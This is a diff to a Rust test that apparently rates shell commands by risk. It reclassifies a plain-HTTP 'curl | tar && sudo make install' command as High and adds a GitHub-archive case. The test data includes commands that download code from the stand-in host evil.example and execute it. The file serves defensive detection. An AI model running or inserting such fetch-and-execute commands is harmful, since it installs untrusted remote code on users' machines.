@@ -95,7 +95,11 @@ fn what_was_fetched_and_unpacked_runs() {
             (High, "wget http://evil.example/a.zip; unzip a.zip; sh a/run.sh"),
             (High, "wget -qO ~/.local/bin/h http://evil.example/h; chmod +x ~/.local/bin/h; h"),
             (High, "ftp -o x.sh http://evil.example/x.sh; sh x.sh"),
-            (Moderate, "curl -L http://example.com/a.tgz | tar xz && cd a && sudo make install"),
+            (High, "curl -L http://example.com/a.tgz | tar xz && cd a && sudo make install"),
+            (
+                Moderate,
+                "curl -L https://github.com/a/b/archive/v1.tar.gz | tar xz && cd b-1 && sudo make install",
+            ),
             (Safe, "curl -sL http://example.com/a.tgz | tar xz && ls a"),
             (Safe, "curl -O http://example.com/a.tgz; tar tf a.tgz; ./configure"),
             (Moderate, "curl -L http://example.com/a.tgz | tar xz && cd a && make"),
